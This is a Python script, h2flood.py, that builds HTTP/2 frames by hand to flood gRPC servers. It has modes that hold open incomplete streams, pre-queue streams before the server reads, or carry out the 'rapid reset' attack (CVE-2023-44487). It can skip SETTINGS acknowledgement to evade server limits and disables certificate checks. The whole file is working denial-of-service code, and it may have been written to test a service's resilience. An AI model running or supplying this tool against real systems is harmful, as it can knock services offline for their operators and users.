#!/usr/bin/python3
"""h2flood.py: an unauthenticated HTTP/2 stream flood, frames written by hand (RFC 9113, RFC 7541).

    h2flood.py MODE TARGET CONNS STREAMS SECONDS PATH [ack] [rate=N]

MODE     hold:  open STREAMS streams on each connection (HEADERS without END_STREAM, no
                DATA), then keep the connections open until SECONDS have passed;
         queue: as hold, but each connection gets, at once and without waiting, as many of its
                STREAMS streams as its socket takes (the attacker writes before the server has
                accepted: run it against a paused server to queue them all before gRPC reads);
         reset: the "rapid reset" pattern (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL)
                at once, STREAMS pairs per write, on each connection, until SECONDS have passed
                (a connection the server closes is opened again).
TARGET   tcp:HOST:PORT (TLS with ALPN h2, no client certificate, the server's certificate not
         checked) or unix:PATH (plaintext).
PATH     the gRPC method the streams name (a real one, so that the server holds each call).
rate=N   reset mode: at most N streams a second over all connections (default: as fast as it can).

Without `ack` the client never acknowledges the server's SETTINGS (so a limit the server advertises
is not in force for it: the worst case); with it, it does so before its first stream. It and reads and discards whatever the server sends. Prints one
JSON line at the end: connections opened, streams sent, connections the server closed.
"""
import json
import select
import signal
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
END_HEADERS = 0x4
CANCEL = 0x8


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream_id) + payload


def hpack_literal(name_index, value):
    """A literal header field without indexing, indexed name (RFC 7541 §6.2.2), no Huffman."""
    v = value.encode()
    assert name_index < 15 and len(v) < 127
    return bytes([name_index, len(v)]) + v


def hpack_literal_new(name, value):
    n, v = name.encode(), value.encode()
    return bytes([0, len(n)]) + n + bytes([len(v)]) + v


def header_block(path, tls):
    return (bytes([0x83, 0x87 if tls else 0x86])  # :method POST, :scheme https/http (static table 3, 7/6)
            + hpack_literal(4, path) + hpack_literal(1, "localhost")  # :path, :authority
            + hpack_literal_new("content-type", "application/grpc") + hpack_literal_new("te", "trailers")
            + hpack_literal_new("workload.spiffe.io", "true"))


def connect(target):
    kind, _, rest = target.partition(":")
    if kind == "unix":
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(rest)
        return s, False
    host, port = rest.rsplit(":", 1)
    raw = socket.create_connection((host, int(port)), timeout=10)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx.wrap_socket(raw, server_hostname="localhost"), True


class Conn:
    def __init__(self, target, path, ack=False):
        self.sock, self.tls = connect(target)
        self.block = header_block(path, self.tls)
        self.next_id = 1
        self.closed = False
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        if ack:
            # Wait for the server's SETTINGS and acknowledge them, as every real client does.
            self.sock.settimeout(5)
            buf = b""
            while len(buf) < 9 or buf[3] != SETTINGS:
                d = self.sock.recv(65536)
                if not d:
                    break
                buf += d
            self.sock.sendall(frame(SETTINGS, 0x1, 0))
        self.sock.setblocking(False)

    def streams(self, n, reset):
        out = bytearray()
        for _ in range(n):
            sid = self.next_id
            self.next_id += 2
            out += frame(HEADERS, END_HEADERS, sid, self.block)
            if reset:
                out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
        self.send(bytes(out))
        return n

    def queue(self, n):
        """Writes up to n streams as far as the socket takes them now; returns the whole frames written."""
        one = len(frame(HEADERS, END_HEADERS, 1, self.block))
        written = 0
        while written < n * one:
            out = bytearray()
            for _ in range(min(100, n - written // one)):
                out += frame(HEADERS, END_HEADERS, self.next_id, self.block)
                self.next_id += 2
            try:
                k = self.sock.send(bytes(out))
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                k = 0
            except OSError:
                self.closed = True
                k = 0
            written += k
            if k < len(out):  # full: the last frame may be cut, and the server then waits for its rest
                break
        return written // one

    def send(self, data):
        view = memoryview(data)
        deadline = time.time() + 10
        while view and not self.closed and time.time() < deadline:
            try:
                k = self.sock.send(view)
                view = view[k:]
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                self.drain()
                select.select([self.sock], [self.sock], [], 0.05)
            except OSError:
                self.closed = True

    def drain(self):
        while not self.closed:
            try:
                d = self.sock.recv(65536)
                if not d:
                    self.closed = True
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                self.closed = True


STOP = []


def running(end):
    return time.time() < end and not STOP


def main():
    signal.signal(signal.SIGINT, lambda *a: STOP.append(1))
    mode, target, nconns, nstreams, seconds, path = sys.argv[1:7]
    ack = "ack" in sys.argv[7:]
    rate = next((float(a[5:]) for a in sys.argv[7:] if a.startswith("rate=")), 0.0)
    t_start = time.time()
    nconns, nstreams, seconds = int(nconns), int(nstreams), float(seconds)
    end = time.time() + seconds
    conns, opened, sent, errors = [], 0, 0, {}
    for _ in range(nconns):
        try:
            conns.append(Conn(target, path, ack))
            opened += 1
        except OSError as e:
            errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1
    print(json.dumps({"event": "connected", "conns": opened}), flush=True)
    closed_by_server = 0
    if mode in ("hold", "queue"):
        for c in conns:
            if mode == "queue":
                sent += c.queue(nstreams)
                continue
            for _ in range(0, nstreams, 500):
                if STOP:
                    break
                sent += c.streams(min(500, nstreams - (c.next_id // 2)), False)
                c.drain()
        print(json.dumps({"event": "streams_queued" if mode == "queue" else "streams_open", "streams": sent}),
              flush=True)
        while running(end):
            for c in conns:
                c.drain()
            time.sleep(0.2)
        closed_by_server = sum(1 for c in conns if c.closed)
    else:
        while running(end):
            for i, c in enumerate(conns):
                if c.closed or c.next_id > 2 ** 31 - 2 * nstreams:
                    closed_by_server += 1
                    try:
                        c.sock.close()
                        conns[i] = c = Conn(target, path, ack)
                        opened += 1
                    except OSError as e:
                        errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1
                        time.sleep(0.05)
                        continue
                sent += c.streams(nstreams, True)
                c.drain()
                if rate > 0:
                    ahead = sent / rate - (time.time() - t_start)
                    if ahead > 0:
                        time.sleep(ahead)
    print(json.dumps({"event": "done", "conns_opened": opened, "streams_sent": sent,
                      "closed_by_server": closed_by_server, "connect_errors": errors}), flush=True)
    for c in conns:
        try:
            c.sock.close()
        except OSError:
            pass


if __name__ == "__main__":
    main()
